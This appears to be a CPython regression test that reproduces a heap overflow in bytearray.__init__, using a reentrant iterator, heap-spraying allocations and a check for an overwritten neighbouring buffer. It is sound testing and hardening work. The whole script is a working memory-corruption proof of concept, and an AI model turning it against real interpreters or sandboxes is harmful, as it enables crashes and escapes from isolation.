# technique: case 575 through an index-like source: the guard passed any object with __index__ to CPython's bytearray.__init__ on self, which on a TypeError from __index__ goes on to iterate the source into self (the overflow of case 575; a review of pass 66's fix)
# expect: any
N = 415
ba = bytearray()
class It:
    def __init__(self): self.n = 0
    def __index__(self): raise TypeError("not an int after all")
    def __iter__(self): return self
    def __next__(self):
        self.n += 1
        if self.n == 1:
            ba.extend(X)
            del ba[:207]
        if self.n > 206:
            raise StopIteration
        return 0x41
X = b"x" * N
fill = [bytearray(b"f" * N) for i in range(300)]
P = bytearray(b"p" * N)
V = bytearray(b"v" * N)
del P
it = It()
ba.__init__(it)
print(len(ba), "V now starts with", bytes(V[:16]))
if bytes(V[:16]) != b'v' * 16:
    raise RuntimeError('heap overflow: the neighbouring bytearray was overwritten')
